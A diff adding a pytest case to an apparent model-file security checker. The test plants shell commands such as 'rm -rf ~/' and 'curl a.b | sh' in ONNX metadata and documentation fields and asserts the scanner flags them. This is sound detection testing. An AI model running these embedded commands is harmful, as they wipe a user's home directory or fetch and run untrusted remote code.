@@ -7,12 +7,14 @@ import time
 import pytest
 
 from llamafile_format.checks.evidence import Sort, search, shown
-from llamafile_format.checks.metadata import check_document
+from llamafile_format.checks.metadata import check_document, check_words
 from llamafile_format.checks.weights import check_gguf
 from llamafile_format.findings import Finding
 from llamafile_format.limits import METADATA_TEXT
 from llamafile_format.source import BytesSource
 from llamafile_format.weights.gguf_limits import FINDINGS_PER_RULE
+from llamafile_format.weights.onnx import read_onnx
+from spec.vectors.generate import onnx
 from spec.vectors.generate.gguf_builder import STRING, V3, model
 
 WORDS = {"LF5097", "LF5098", "LF5099", "LF5100"}
@@ -39,6 +41,31 @@ def judged(*entries: bytes, base: int = 0) -> list[Finding]:
 )
 def test_pipelines(text: str) -> None:
     assert Sort.PIPELINE in {found.sort for found in search(text.encode())}
+
+
+def test_what_an_onnx_model_says_is_searched_wherever_it_stands_and_within_bounds() -> None:
+    """Documentation and metadata at every depth; what operators say beyond the bound is left, what the model says is
+    told to be left."""
+    says, keeps = onnx.field(6, "rm -rf ~/"), onnx.field(14, onnx.field(2, "curl a.b | sh"))
+    deep = onnx.graph(onnx.tensor() + onnx.field(12, "chmod +x a"), nodes=(onnx.node(more=says),))
+    for data in (
+        onnx.model(more=says),
+        onnx.model(deep),
+        onnx.model(more=keeps),
+        onnx.model(onnx.graph(onnx.tensor(), more=onnx.field(10, "rm -rf ~/"))),
+    ):
+        model = read_onnx(BytesSource(data))
+        found = list(check_words(model, BytesSource(data), 7, "m.onnx"))
+        assert {each.rule for each in found} & {"LF5097", "LF5098"}, data
+        assert all(data[each.where.offset - 7 :].startswith((b"rm", b"curl", b"chmod")) for each in found)
+    long = "x" * 9000
+    for data, rules in (
+        (onnx.model(onnx.graph(nodes=(onnx.node(more=onnx.field(6, long)),) * 500)), set()),
+        (onnx.model(more=onnx.field(14, onnx.field(2, "x" * (4 << 20)))), {"LF9003"}),
+    ):
+        model = read_onnx(BytesSource(data))
+        assert not model.findings
+        assert {each.rule for each in check_words(model, BytesSource(data), 0, "")} == rules
 
 
 @pytest.mark.parametrize(
